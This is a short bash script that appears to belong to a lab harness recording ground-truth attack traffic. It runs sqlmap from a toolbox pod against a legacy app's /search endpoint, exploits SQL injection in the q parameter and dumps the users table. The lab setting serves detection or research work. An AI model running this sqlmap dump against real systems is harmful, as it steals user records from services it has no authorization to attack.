#!/usr/bin/env bash
# Exploitation: sqlmap finds and uses the SQL injection of the legacy app's /search.
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip legacy); lab_assert_target "$T"
ns=$(lab_pod_ns toolbox)
gt_begin sqlmap exploitation sqlmap pod:toolbox pod:legacy "sqlmap --dbms=sqlite --technique=BEU, then --dump of the users table"
out=$LAB_RUN/sqlmap; mkdir -p "$out"
# HOME in the run directory: sqlmap keeps a history folder under ~/.local/share.
HOME=$out lab_exec "$ns" timeout 120 sqlmap -u "http://$T:8080/search?q=alice" -p q --batch --dbms=sqlite --technique=BEU --level 1 --risk 1 \
  --threads 2 --timeout 5 --retries 0 --dump -T users --output-dir="$out" --flush-session --disable-coloring >>"$GT_LOG" 2>&1 || true
gt_end '{"dport":8080}'
